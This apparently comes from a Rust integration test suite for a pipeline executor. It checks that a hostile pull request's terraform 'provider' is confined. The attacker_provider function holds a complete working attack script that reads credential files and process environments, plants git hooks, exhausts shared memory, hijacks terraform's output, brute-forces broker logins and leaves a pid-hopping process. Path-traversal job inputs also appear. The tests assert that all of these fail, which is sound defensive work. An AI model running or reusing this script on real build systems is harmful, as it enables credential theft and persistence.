//! A pull request's code is hostile: what it can reach when it runs during a plan, on real
//! workers (the built binary, real RabbitMQ, real terraform), and what the executor refuses
//! before anything runs.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: fail loudly.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use base64::Engine;
use broker::{Broker, Outgoing, REASON_HEADER, Route};
use harness::deployment::Deployment;
use harness::rabbit::{self, Vhost, rabbitmqctl};
use harness::runs::{DEADLINE, orchestrate, wait_final};
use harness::sandbox::Sandbox;
use harness::{poll_until, require_terraform};
use proto_types::{Action, ExecutorRole, Job, Payload, UnitState};
use uuid::Uuid;

/// The tool users of the two workers: numeric, so that no passwd entry is needed.
const PLAN_TOOL_USER: u32 = 61_001;
const APPLY_TOOL_USER: u32 = 61_002;

/// A broker user of this test's own, with a password nobody could guess, removed on drop.
struct BrokerUser {
    name: String,
    password: String,
}

impl BrokerUser {
    fn new(vhost: &Vhost) -> BrokerUser {
        let id = Uuid::new_v4().simple().to_string();
        let user = BrokerUser {
            name: format!("untrusted-{}", &id[..8]),
            password: format!("pw-{}", Uuid::new_v4().simple()),
        };
        rabbitmqctl(&["add_user", &user.name, &user.password]);
        rabbitmqctl(&[
            "set_permissions",
            "-p",
            &vhost.name,
            &user.name,
            ".*",
            ".*",
            ".*",
        ]);
        user
    }
}

impl Drop for BrokerUser {
    fn drop(&mut self) {
        let _ = std::process::Command::new("rabbitmqctl")
            .args(["-q", "delete_user", &self.name])
            .output();
    }
}

fn write_private(path: &Path, content: &str) {
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
}

fn executable(path: &Path, content: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A unit that needs no provider: it only has outputs.
fn outputs_only(value: &str) -> String {
    format!("output \"value\" {{\n  value = \"{value}\"\n}}\n")
}

/// Fills the sandbox's repository: `c0` (a README) and `c1` (the unit `dev/app`) on `main`, and
/// a pull request's branch `name` whose `c2` adds the unit `dev/<name>` with a provider of its
/// own, the executable `provider`, where terraform finds it (the unit's
/// `terraform.d/plugins`). `(c0, c1, c2)`.
fn pull_request_with_a_provider(
    sandbox: &Sandbox,
    name: &str,
    provider: &str,
) -> (String, String, String) {
    let repo = &sandbox.repo;
    repo.write("README.md", "# infrastructure\n");
    let c0 = repo.commit("c0: readme");
    repo.write("dev/app/main.tf", &outputs_only("one"));
    repo.write("dev/app/pipelines.hcl", "dependencies = []\n");
    let c1 = repo.commit("c1: dev/app");
    repo.git(&["checkout", "-q", "-b", name]);
    repo.write(
        &format!("dev/{name}/main.tf"),
        &format!(
            "terraform {{\n  required_providers {{\n    {name} = {{\n      source  = \"example.com/{name}/{name}\"\n      version = \"1.0.0\"\n    }}\n  }}\n}}\nprovider \"{name}\" {{}}\n"
        ),
    );
    repo.write(&format!("dev/{name}/pipelines.hcl"), "dependencies = []\n");
    executable(
        &repo.path().join(format!(
            "dev/{name}/terraform.d/plugins/example.com/{name}/{name}/1.0.0/linux_amd64/terraform-provider-{name}_v1.0.0"
        )),
        provider,
    );
    let c2 = repo.commit("c2: a pull request with a provider of its own");
    repo.git(&["checkout", "-q", "main"]);
    (c0, c1, c2)
}

/// Every process whose real user is `uid`: its pid and its `/proc/PID/status`.
fn statuses_of(uid: u32) -> Vec<(u32, String)> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|entry| {
            let pid = entry.file_name().to_string_lossy().parse::<u32>().ok()?;
            let status = std::fs::read_to_string(entry.path().join("status")).ok()?;
            let real = status_field(&status, "Uid:")?.parse::<u32>().ok()?;
            (real == uid).then_some((pid, status))
        })
        .collect()
}

/// The first word of a field of `/proc/PID/status`.
fn status_field<'a>(status: &'a str, name: &str) -> Option<&'a str> {
    status
        .lines()
        .find_map(|line| line.strip_prefix(name))?
        .split_whitespace()
        .next()
}

/// Every process whose real user is `uid`, by the first line of its status (its name).
fn processes_of(uid: u32) -> Vec<String> {
    statuses_of(uid)
        .into_iter()
        .map(|(_, status)| status.lines().next().unwrap_or_default().to_owned())
        .collect()
}

/// The System V IPC objects `uid` owns or created, as `kind id`, from the kernel's tables.
fn ipc_objects_of(uid: u32) -> Vec<String> {
    let mut found = Vec::new();
    for (kind, id_column) in [("shm", "shmid"), ("sem", "semid"), ("msg", "msqid")] {
        let table = std::fs::read_to_string(format!("/proc/sysvipc/{kind}")).unwrap();
        let mut lines = table.lines();
        let header: Vec<&str> = lines.next().unwrap().split_whitespace().collect();
        let at = |name: &str| header.iter().position(|column| *column == name).unwrap();
        let (id, owner, creator) = (at(id_column), at("uid"), at("cuid"));
        for line in lines {
            let fields: Vec<&str> = line.split_whitespace().collect();
            if [fields[owner], fields[creator]].contains(&uid.to_string().as_str()) {
                found.push(format!("{kind} {}", fields[id]));
            }
        }
    }
    found
}

/// Every encoding of `secret` a reader could decode it from.
fn encoded_forms(secret: &str) -> Vec<String> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let mut forms = vec![
        secret.to_owned(),
        b64.encode(secret),
        url.encode(secret),
        b64.encode(format!(":{secret}")),
        b64.encode(format!("x:{secret}")),
    ];
    let percent: String = secret
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    forms.push(percent);
    // The middle of each base64 form: a prefix changes only the first characters.
    let core: Vec<String> = forms[1..]
        .iter()
        .filter(|form| form.len() > 12)
        .map(|form| form[4..form.len() - 4].to_owned())
        .collect();
    forms.extend(core);
    forms
}

/// The provider a pull request ships: it runs when terraform loads the provider during the
/// plan, as the plan worker's tool user, and reports each attempt to `report`.
fn attacker_provider(report: &Path, targets: &Targets) -> String {
    let files = targets
        .files
        .iter()
        .map(|path| format!("'{}'", path.display()))
        .collect::<Vec<_>>()
        .join(" ");
    let mirrors = targets
        .work_dirs
        .iter()
        .map(|dir| format!("'{}'", dir.display()))
        .collect::<Vec<_>>()
        .join(" ");
    format!(
        r#"#!/bin/sh
# A pull request's "provider": everything it tries is written to the report.
R='{report}'
say() {{ printf '%s\n' "$*" >> "$R"; }}
say "== ran as uid $(id -u) gid $(id -g) groups $(id -G)"
say "== limit $(grep 'Max processes' /proc/self/limits)"
# The session it is in, by its leader's command line, and its controlling terminal (0: none).
# A tool in the worker's session would share the terminal of the shell that started it.
sid=$(sed 's/.*) //' /proc/self/stat | cut -d' ' -f4)
say "== session led by: $(tr '\0' ' ' < /proc/$sid/cmdline 2>&1)"
say "== controlling terminal: $(sed 's/.*) //' /proc/self/stat | cut -d' ' -f5)"
# A set-user-ID root program where the tool user can run it: root, unless the tools may not
# gain privileges.
say "== $(grep NoNewPrivs /proc/self/status)"
say "== set-uid root program: $('{setuid}' 2>&1)"
say "== environment"; env >> "$R" 2>&1
for f in {files}; do say "== read $f"; cat "$f" >> "$R" 2>&1 || say "denied: $f"; done
pid=$PPID
for level in 1 2 3 4; do
  say "== /proc/$pid/environ"; tr '\0' '\n' < /proc/$pid/environ >> "$R" 2>&1 || say "denied: /proc/$pid/environ"
  say "== /proc/$pid/cmdline"; tr '\0' ' ' < /proc/$pid/cmdline >> "$R" 2>&1; say ""
  pid=$(awk '/^PPid:/ {{print $2}}' /proc/$pid/status 2>/dev/null)
  [ -n "$pid" ] && [ "$pid" -gt 1 ] || break
done
for w in {mirrors}; do
  for m in "$w"/mirrors/*.git "$w/mirrors/infra.git"; do
    say "== plant a hook and config in $m"
    mkdir -p "$m/hooks" 2>>"$R" && printf '#!/bin/sh\ntouch /tmp/pwned-by-hook\n' > "$m/hooks/post-checkout" 2>>"$R" \
      && chmod +x "$m/hooks/post-checkout" && say "PLANTED hook in $m" || say "denied: hook in $m"
    printf '[core]\n\thooksPath = /tmp\n' >> "$m/config" 2>>"$R" && say "PLANTED config in $m" || say "denied: config in $m"
  done
  say "== leave a file in $w/jobs"
  echo evil > "$w/jobs/left-by-a-plan" 2>>"$R" && say "LEFT a file in $w/jobs" || say "denied: $w/jobs"
done
# Files in the shared temporary directories; shared memory holds 4 MiB of the host's until
# it is deleted.
u=$(id -u)
echo evil > /tmp/left-by-a-plan-$u && mkdir -p /var/tmp/left-by-a-plan-$u \
  && echo evil > /var/tmp/left-by-a-plan-$u/inside \
  && head -c 4194304 /dev/zero > /dev/shm/left-by-a-plan-$u \
  && echo evil > /run/lock/left-by-a-plan-$u \
  && say "wrote to /tmp, /var/tmp, /dev/shm and /run/lock" || say "could not write to the shared temporary directories"
# System V IPC objects outlive their maker too; a segment holds memory until it is removed.
say "made System V IPC objects: shm $(ipcmk -M 4194304 2>&1 | awk '{{print $NF}}'), sem $(ipcmk -S 1 2>&1 | awk '{{print $NF}}'), msg $(ipcmk -Q 2>&1 | awk '{{print $NF}}')"
setsid sleep 600 < /dev/null > /dev/null 2>&1 &
# Another takes terraform's own output (the job's pipe, the worker's) and holds it open.
/usr/bin/python3 - "$PPID" >> "$R" 2>&1 <<'PY'
import ctypes, os, subprocess, sys
fd = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(int(sys.argv[1])), 1, 0)
if fd < 0:
    print("denied: terraform's output")
else:
    subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL, stdout=fd, stderr=fd, start_new_session=True)
    print("HELD terraform's output")
PY
say "== broker attempts"
timeout 40 /usr/bin/python3 - "$R" >> "$R" 2>&1 <<'PY'
import re, socket, struct, sys
text = open(sys.argv[1], errors="replace").read()
candidates = sorted({{v for line in text.splitlines() if "=" in line for v in [line.split("=", 1)[1].strip()] if 8 <= len(v) <= 80}})[:12]
users = sorted(set(re.findall(r"amqp://([^:@/\s]+)", text)) | {{"guest"}})
def attempt(user, password):
    s = socket.create_connection(("127.0.0.1", 5672), timeout=2)
    s.sendall(b"AMQP\x00\x00\x09\x01")
    def frame():
        head = b""
        while len(head) < 7:
            chunk = s.recv(7 - len(head))
            if not chunk: raise EOFError
            head += chunk
        size = struct.unpack(">BHI", head)[2]
        body = b""
        while len(body) < size + 1:
            chunk = s.recv(size + 1 - len(body))
            if not chunk: raise EOFError
            body += chunk
        return body[:-1]
    frame()
    response = b"\x00" + user.encode() + b"\x00" + password.encode()
    args = struct.pack(">I", 0) + b"\x05PLAIN" + struct.pack(">I", len(response)) + response + b"\x05en_US"
    payload = struct.pack(">HH", 10, 11) + args
    s.sendall(struct.pack(">BHI", 1, 0, len(payload)) + payload + b"\xce")
    try:
        method = struct.unpack(">HH", frame()[:4])
    except Exception:
        return "refused"
    return "ACCEPTED" if method == (10, 30) else "refused"
tried = 0
for user in users:
    for password in candidates:
        tried += 1
        if attempt(user, password) == "ACCEPTED":
            print(f"BROKER ACCEPTED {{user}}")
print(f"broker attempts: {{tried}}")
PY
# A process that forks and exits over and over: a new pid each time anyone looks for it.
setsid /usr/bin/python3 -c 'import os
while True:
    try:
        if os.fork(): os._exit(0)
    except OSError:
        os.sched_yield()' < /dev/null > /dev/null 2>&1 &
say "started a process that hops from pid to pid"
say "== done"
exit 1
"#,
        report = report.display(),
        setuid = targets.setuid_program.display(),
    )
}

/// What the attacker aims at.
struct Targets {
    files: Vec<PathBuf>,
    work_dirs: Vec<PathBuf>,
    /// A copy of `id`, owned by root and set-user-ID, as a host's `su` or `mount` is.
    setuid_program: PathBuf,
}

#[test]
fn a_pull_request_provider_finds_no_secret_and_leaves_nothing_for_the_next_apply() {
    require_terraform();
    let vhost = rabbit::vhost();
    let sandbox = Sandbox::new();
    // The tool users must pass through to their job directories.
    std::fs::set_permissions(sandbox.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let user = BrokerUser::new(&vhost);
    let secrets = sandbox.dir("secrets");
    let password_file = secrets.join("broker.password");
    write_private(&password_file, &user.password);
    let apply_token = format!("apply-token-{}", Uuid::new_v4().simple());
    let plan_token = format!("plan-token-{}", Uuid::new_v4().simple());
    let apply_token_file = secrets.join("apply.token");
    let plan_token_file = secrets.join("plan.token");
    write_private(&apply_token_file, &apply_token);
    write_private(&plan_token_file, &plan_token);
    let report_dir = tempfile::Builder::new()
        .prefix("untrusted-report-")
        .tempdir()
        .unwrap();
    // The tool user appends to a file it does not own: whatever it owns in /tmp is deleted
    // when its job ends.
    std::fs::set_permissions(report_dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let report = report_dir.path().join("report.txt");
    std::fs::write(&report, "").unwrap();
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o666)).unwrap();

    let credentials = |name: &str, file: &Path, variable: &str| {
        format!(
            "[[credentials]]\nname = \"{name}\"\nprovider = \"command\"\ncommand = [\"sh\", \"-c\", \"printf '{{\\\"env\\\": {{\\\"{variable}\\\": \\\"%s\\\"}}}}' \\\"$(cat {})\\\"\"]\n\n",
            file.display()
        )
    };
    let accounts = format!(
        "[[accounts]]\nname = \"dev\"\npaths = [\"dev/**\"]\nplan_credentials = \"dev-plan\"\napply_credentials = \"dev-apply\"\n\n{}{}",
        credentials("dev-plan", &plan_token_file, "PLAN_TOKEN"),
        credentials("dev-apply", &apply_token_file, "APPLY_TOKEN"),
    );
    let broker_url = format!("amqp://{}@127.0.0.1:5672/{}", user.name, vhost.name);
    // No TF_CLI_CONFIG_FILE for tools: terraform then finds the PR's provider where any
    // default installation would, in the unit's terraform.d/plugins.
    let extra = "\n[executor]\npass_env = []\n";
    let config = sandbox.write_config_with(&broker_url, &accounts, extra);
    let text = std::fs::read_to_string(&config).unwrap().replacen(
        "\n\n[[repositories]]",
        &format!(
            "\nbroker_password_file = \"{}\"\n\n[[repositories]]",
            password_file.display()
        ),
        1,
    );
    write_private(&config, &text);

    let work = sandbox.path().join("work");
    let (plan_work, apply_work) = (work.join("dev-plan-1"), work.join("dev-1"));
    let targets = Targets {
        files: vec![
            config.clone(),
            password_file.clone(),
            apply_token_file.clone(),
            plan_token_file.clone(),
        ],
        work_dirs: vec![plan_work.clone(), apply_work.clone()],
        setuid_program: sandbox.dir("bin").join("id-as-root"),
    };
    std::fs::set_permissions(
        targets.setuid_program.parent().unwrap(),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::copy("/usr/bin/id", &targets.setuid_program).unwrap();
    std::fs::set_permissions(
        &targets.setuid_program,
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    {
        // Run as the plan's tool user, but not by a worker, it does make its caller root
        // here: the file system honours set-user-ID bits, so the plan's try below means
        // something.
        use std::os::unix::process::CommandExt;
        let direct = std::process::Command::new(&targets.setuid_program)
            .uid(PLAN_TOOL_USER)
            .gid(PLAN_TOOL_USER)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&direct.stdout);
        assert!(said.contains("euid=0(root)"), "{direct:?}");
    }
    let (c0, c1, c2) =
        pull_request_with_a_provider(&sandbox, "evil", &attacker_provider(&report, &targets));

    let mut deployment = Deployment::start(sandbox.path(), &config, &[]);
    let tool_user = |uid: u32| format!("{uid}:{uid}");
    let (plan_user, apply_user) = (tool_user(PLAN_TOOL_USER), tool_user(APPLY_TOOL_USER));
    deployment.start_executor_with(
        "dev:plan",
        "dev-plan-1",
        &[("PIPELINES_EXECUTOR__TOOL_USER", &plan_user)],
    );
    deployment.start_executor_with(
        "dev",
        "dev-1",
        &[("PIPELINES_EXECUTOR__TOOL_USER", &apply_user)],
    );

    // The pull request: its plan runs the provider, which fails the job (it is no provider).
    let broker = format!(
        "amqp://{}:{}@127.0.0.1:5672/{}",
        user.name, user.password, vhost.name
    );
    let pr = orchestrate(
        &sandbox,
        broker.as_str(),
        (&c1, &c2),
        "pull-request",
        &["--pr", "7", "--format", "json"],
    );
    let run: serde_json::Value =
        serde_json::from_str(&pr.stdout).unwrap_or_else(|err| panic!("{err}: {}", pr.transcript()));
    let run_id: Uuid = run["run_id"].as_str().unwrap().parse().unwrap();
    let detail = wait_final(&sandbox, run_id);
    let evil = detail
        .jobs
        .iter()
        .find(|job| job.unit == "dev/evil")
        .unwrap_or_else(|| panic!("{detail:#?}"));
    assert_eq!(evil.worker.as_deref(), Some("dev-plan-1"), "{detail:#?}");

    let said = std::fs::read_to_string(&report).unwrap();
    assert!(!said.is_empty(), "the provider never ran: {detail:#?}");
    // A process holding terraform's output kept neither the job nor the worker waiting: what
    // the plan step left running was killed as the step ended, and the job's log says so.
    // (Where Yama restricts ptrace, `pidfd_getfd` on a parent is refused: nothing was held.)
    let yama = std::fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope")
        .is_ok_and(|scope| scope.trim() != "0");
    assert!(
        said.contains("HELD terraform's output")
            || (yama && said.contains("denied: terraform's output")),
        "{said}"
    );
    let log = evil.log.as_deref().and_then(|log| log.split_once(':'));
    let log = std::fs::read_to_string(log.unwrap_or_else(|| panic!("{detail:#?}")).1).unwrap();
    assert!(log.contains("process(es) terraform left running)"), "{log}");
    // It ran, as the plan worker's tool user, with its own (plan) credentials and nothing else.
    assert!(
        said.contains(&format!(
            "== ran as uid {PLAN_TOOL_USER} gid {PLAN_TOOL_USER} groups {PLAN_TOOL_USER}\n"
        )),
        "{said}"
    );
    assert!(said.contains(&format!("PLAN_TOKEN={plan_token}")), "{said}");
    // A set-user-ID program on the host does not make it root.
    assert!(said.contains("== NoNewPrivs:\t1\n"), "{said}");
    assert!(
        said.contains(&format!(
            "== set-uid root program: uid={PLAN_TOOL_USER} gid={PLAN_TOOL_USER} groups={PLAN_TOOL_USER}\n"
        )),
        "{said}"
    );
    // It is in a session its supervisor leads, apart from the worker's, and has no
    // controlling terminal.
    let leader = said
        .lines()
        .find_map(|line| line.strip_prefix("== session led by: "))
        .unwrap_or_else(|| panic!("no session reported:\n{said}"));
    assert!(
        leader.contains(executor_worker::SUPERVISE_COMMAND),
        "the tool's session is led by {leader:?}:\n{said}"
    );
    assert!(said.contains("== controlling terminal: 0\n"), "{said}");
    // A fork bomb stops at the supervisor's RLIMIT_NPROC (or the worker's own, when lower),
    // not at the host's.
    let limit_of = |limits: &str| -> Vec<String> {
        limits
            .lines()
            .find_map(|line| line.strip_prefix("Max processes"))
            .unwrap_or_else(|| panic!("no limit in:\n{limits}"))
            .split_whitespace()
            .map(str::to_owned)
            .collect()
    };
    let ours = limit_of(&std::fs::read_to_string("/proc/self/limits").unwrap());
    let tasks = executor_worker::supervisor::TOOL_TASKS;
    let expected = ours[1]
        .parse::<u64>()
        .map_or(tasks, |hard| hard.min(tasks))
        .to_string();
    let reported = said
        .lines()
        .find_map(|line| line.strip_prefix("== limit "))
        .unwrap_or_else(|| panic!("no limit reported:\n{said}"));
    assert_eq!(
        limit_of(reported),
        [expected.as_str(), expected.as_str(), "processes"],
        "{said}"
    );
    assert!(said.contains("== done"), "{said}");
    let attempts: usize = said
        .lines()
        .find_map(|line| line.strip_prefix("broker attempts: "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no broker attempt was made:\n{said}"));
    assert!(attempts > 0, "{said}");
    for secret in [&apply_token, &user.password] {
        for form in encoded_forms(secret) {
            assert!(
                !said.contains(&form),
                "{form:?} (from {secret:?}) reached the plan:\n{said}"
            );
        }
    }
    for forbidden in ["PLANTED", "LEFT a file", "BROKER ACCEPTED", "PIPELINES_"] {
        assert!(!said.contains(forbidden), "{forbidden}:\n{said}");
    }
    for file in &targets.files {
        assert!(
            said.contains(&format!("denied: {}", file.display())),
            "{}: {said}",
            file.display()
        );
    }
    // Nothing it started outlives its job, not even a process that hops from pid to pid.
    assert!(said.contains("started a process that hops"), "{said}");
    poll_until(DEADLINE, "the plan's processes to be gone", || {
        processes_of(PLAN_TOOL_USER).is_empty().then_some(())
    });
    // The job's directory is gone.
    let jobs: Vec<_> = std::fs::read_dir(plan_work.join("jobs"))
        .unwrap()
        .flatten()
        .collect();
    assert!(jobs.is_empty(), "{jobs:?}");
    // So is what it left in the shared temporary directories, removed before the outcome.
    assert!(
        said.contains("wrote to /tmp, /var/tmp, /dev/shm and /run/lock"),
        "{said}"
    );
    for dir in ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"] {
        let left = Path::new(dir).join(format!("left-by-a-plan-{PLAN_TOOL_USER}"));
        assert!(
            std::fs::symlink_metadata(&left).is_err(),
            "{} outlived the plan",
            left.display()
        );
    }
    // And its System V IPC objects: it made one of each kind, and none is left.
    let made = said
        .lines()
        .find_map(|line| line.strip_prefix("made System V IPC objects: "))
        .unwrap_or_else(|| panic!("{said}"));
    for kind in ["shm", "sem", "msg"] {
        let id = made
            .split(", ")
            .find_map(|part| part.strip_prefix(&format!("{kind} ")))
            .and_then(|id| id.parse::<i32>().ok());
        assert!(id.is_some(), "no {kind} id in {made:?}");
    }
    assert_eq!(ipc_objects_of(PLAN_TOOL_USER), Vec::<String>::new());

    // The next apply in the account, on this machine, runs clean.
    let push = orchestrate(
        &sandbox,
        broker.as_str(),
        (&c0, &c1),
        "push",
        &["--wait", "--format", "json"],
    );
    assert_eq!(push.code(), Some(0), "{}", push.transcript());
    let pushed: proto_types::RunStatus = serde_json::from_str(&push.stdout).unwrap();
    assert!(
        pushed
            .units
            .iter()
            .all(|unit| unit.state == UnitState::Succeeded),
        "{pushed:#?}"
    );
    let after = std::fs::read_to_string(&report).unwrap();
    assert_eq!(after, said, "the provider ran again");
    assert!(!Path::new("/tmp/pwned-by-hook").exists());
    for work_dir in [&plan_work, &apply_work] {
        let hooks = work_dir.join("mirrors/infra.git/hooks");
        assert!(!hooks.exists(), "{}", hooks.display());
    }
    deployment.assert_running();
    drop(deployment);
}

/// A job published straight to a plan queue, bypassing the dispatcher.
fn job(unit: &str, commit: &str) -> Job {
    Job {
        job_id: Uuid::new_v4(),
        run_id: Uuid::new_v4(),
        repository: "infra".into(),
        account: "dev".into(),
        commit: commit.into(),
        unit: unit.into(),
        action: Action::Plan,
        source_commit: None,
        attempt: 1,
        timeout_secs: 0,
        role: ExecutorRole::Plan,
        policy_override: None,
    }
}

#[test]
fn unit_paths_out_of_the_checkout_fail_at_the_executor() {
    require_terraform();
    let vhost = rabbit::vhost();
    let sandbox = Sandbox::new();
    let repo = &sandbox.repo;
    repo.write("README.md", "# infrastructure\n");
    let c0 = repo.commit("c0: readme");
    repo.write("dev/app/main.tf", &outputs_only("one"));
    repo.write("dev/app/pipelines.hcl", "dependencies = []\n");
    std::os::unix::fs::symlink("../../..", repo.path().join("dev/escape")).unwrap();
    let c1 = repo.commit("c1: a unit and a symlink out of the repository");
    let config = sandbox.write_config(&vhost.url, &[("dev", "dev/**")], "");
    let deployment = Deployment::start(sandbox.path(), &config, &[("dev", 1)]);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let broker = runtime
        .block_on(Broker::connect(&vhost.url, "untrusted-plan-test"))
        .unwrap();

    // Published straight to the queue: the executor itself refuses, and dead-letters them.
    let bad = [
        ("../outside", "is not a relative, normalized path"),
        ("/etc", "is not a relative, normalized path"),
        ("dev/../dev/app", "is not a relative, normalized path"),
        (
            "prod/app",
            "matches no account in this worker's configuration",
        ),
    ];
    let headers = broker::Headers::new();
    for (unit, _) in bad {
        let body = job(unit, &c1).encode();
        let route = Route::Jobs {
            account: "dev",
            role: ExecutorRole::Plan,
        };
        runtime
            .block_on(broker.publish(route, Outgoing::new(&body, unit, &headers)))
            .unwrap();
    }
    let mut dead = runtime
        .block_on(broker.consume("dead.jobs.dev.plan", 1))
        .unwrap();
    let mut reasons = Vec::new();
    while reasons.len() < bad.len() {
        let delivery = runtime
            .block_on(async { tokio::time::timeout(DEADLINE, dead.next()).await })
            .unwrap_or_else(|_| panic!("only these dead letters: {reasons:?}"))
            .unwrap()
            .unwrap();
        let job = Job::decode(&delivery.body).unwrap();
        let reason = delivery
            .headers
            .get(REASON_HEADER)
            .cloned()
            .unwrap_or_default();
        runtime.block_on(delivery.ack()).unwrap();
        reasons.push((job.unit, reason));
    }
    for (unit, expected) in bad {
        let (_, reason) = reasons.iter().find(|(u, _)| u == unit).unwrap();
        assert!(
            reason.starts_with("refused by executor dev-plan-1: ") && reason.contains(expected),
            "{unit}: {reason}"
        );
    }

    // A symlink out of the checkout, in a run the dispatcher made (a forged change event):
    // the job fails at the executor with the reason, and nothing runs.
    let event = proto_types::ChangeEvent {
        id: Uuid::new_v4(),
        repository: "infra".into(),
        trigger: proto_types::Trigger::PullRequest {
            number: Some(3),
            base_branch: "main".into(),
            head_branch: "x".into(),
        },
        base_sha: c0.clone(),
        head_sha: c1.clone(),
        changes: vec![proto_types::Change {
            kind: proto_types::ChangeKind::UnitChanged,
            units: vec!["dev/escape".into()],
            files: vec![],
        }],
        dependencies: vec![],
    };
    let body = event.encode();
    runtime
        .block_on(broker.publish(Route::Changes, Outgoing::new(&body, "forged", &headers)))
        .unwrap();
    let detail = wait_final(&sandbox, event.id);
    let escaped = detail
        .jobs
        .iter()
        .find(|job| job.unit == "dev/escape")
        .unwrap();
    let reason = escaped.reason.clone().unwrap_or_default();
    assert_eq!(escaped.state, "failed", "{detail:#?}");
    assert!(
        reason.contains("leads out of the checkout") && reason.contains("nothing ran"),
        "{reason}"
    );
    assert!(!reason.contains("$ terraform"), "a tool ran: {reason}");
    drop(deployment);
}

/// The live processes of `uid` (zombies left out: they hold nothing and run nothing).
fn alive_processes_of(uid: u32) -> Vec<u32> {
    statuses_of(uid)
        .into_iter()
        .filter(|(_, status)| status_field(status, "State:") != Some("Z"))
        .map(|(pid, _)| pid)
        .collect()
}

/// Starts, as `uid`, a process that forks and exits over and over: a new pid each time anyone
/// looks, as a plan's code could leave behind. At most 64 at once (its own `RLIMIT_NPROC`),
/// so that a slow reaper of orphans on the host does not let zombies pile up.
fn start_hopping(uid: u32) -> std::process::Child {
    let chain = "import os, resource\n\
                 resource.setrlimit(resource.RLIMIT_NPROC, (64, 64))\n\
                 while True:\n    \
                     try:\n        \
                         if os.fork(): os._exit(0)\n    \
                     except OSError:\n        \
                         os.sched_yield()\n";
    python_as(uid, chain)
}

/// Starts `python3 -c code` as `uid`, in `/`, with nothing to read or write.
fn python_as(uid: u32, code: &str) -> std::process::Child {
    use std::os::unix::process::CommandExt;
    std::process::Command::new("/usr/bin/python3")
        .args(["-c", code])
        .current_dir("/")
        .uid(uid)
        .gid(uid)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("running python3 as another user needs root: run the tests as root")
}

/// Kills every process of its uid when dropped, and removes its files in `/dev/shm` (memory
/// until deleted), so that a failed test leaves nothing running or held.
struct KillOnDrop(u32);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        use std::os::unix::process::CommandExt;
        let _ = std::process::Command::new("/usr/bin/python3")
            .args(["-c", "import os; os.kill(-1, 9)"])
            .uid(self.0)
            .gid(self.0)
            .status();
        // `rm`, which removes a tree at any depth (a test's plan may have nested one deep).
        let left = shared_memory_files_of(self.0).unwrap_or_default();
        if !left.is_empty() {
            let _ = std::process::Command::new("rm")
                .arg("-rf")
                .arg("--")
                .args(left)
                .status();
        }
    }
}

/// The files in `/dev/shm` that `uid` owns.
fn shared_memory_files_of(uid: u32) -> std::io::Result<Vec<PathBuf>> {
    use std::os::unix::fs::MetadataExt;
    Ok(std::fs::read_dir("/dev/shm")?
        .filter_map(Result::ok)
        .filter(|entry| entry.metadata().is_ok_and(|meta| meta.uid() == uid))
        .map(|entry| entry.path())
        .collect())
}

#[test]
fn a_process_that_forks_and_exits_over_and_over_is_killed_at_once() {
    // A uid of this test's own.
    let uid = 61_021;
    let mut first = start_hopping(uid);
    let _stop_it_anyway = KillOnDrop(uid);
    // It hops: live processes of the user under ever new pids.
    let mut seen = std::collections::BTreeSet::new();
    poll_until(DEADLINE, "the chain to hop through three pids", || {
        seen.extend(alive_processes_of(uid));
        (seen.len() >= 3).then_some(())
    });
    let _ = first.wait();

    // Started as root, as the worker starts it: the binary may lie where the user cannot read.
    let killed = std::process::Command::new(harness::pipelines_binary())
        .args(["__kill-all", "--as-user", &format!("{uid}:{uid}")])
        .env_clear()
        .output()
        .unwrap();
    assert!(killed.status.success(), "{killed:?}");
    poll_until(DEADLINE, "nothing of the user to be alive", || {
        alive_processes_of(uid).is_empty().then_some(())
    });
}

#[test]
fn the_kill_of_every_process_refuses_to_run_as_root() {
    // As root, `kill(-1)` would be every process of the host. (Run by a user who is not root,
    // the switch to root fails first: nothing is killed either way.)
    let refused = std::process::Command::new(harness::pipelines_binary())
        .args(["__kill-all", "--as-user", "0:0"])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(125), "{refused:?}");
    assert!(
        String::from_utf8_lossy(&refused.stderr)
            .contains("refusing to run as root or with capabilities"),
        "{refused:?}"
    );
}

/// A cgroup v1 freezer group of the test's own. A process in it, once frozen, lives on through
/// SIGKILL until it is thawed, as a process stuck in the kernel does (on a hung network file
/// system, say): the one thing the worker's kill cannot end. On drop it is thawed, what it
/// holds is killed, and it is removed.
struct Freezer(PathBuf);

impl Freezer {
    fn new() -> Freezer {
        let root = Path::new("/sys/fs/cgroup/freezer");
        assert!(
            root.join("tasks").exists(),
            "this test needs the cgroup v1 freezer at {0}: a frozen process there outlives SIGKILL, as one stuck in the kernel does (as root: `mkdir -p {0} && mount -t cgroup -o freezer freezer {0}`)",
            root.display()
        );
        let dir = root.join(format!("pipelines-test-{}", Uuid::new_v4().simple()));
        std::fs::create_dir(&dir).unwrap_or_else(|err| panic!("{}: {err}", dir.display()));
        Freezer(dir)
    }

    /// Moves process `pid` (all its threads) in and freezes it: until [`Self::thaw`], SIGKILL
    /// leaves it alive.
    fn freeze(&self, pid: u32) {
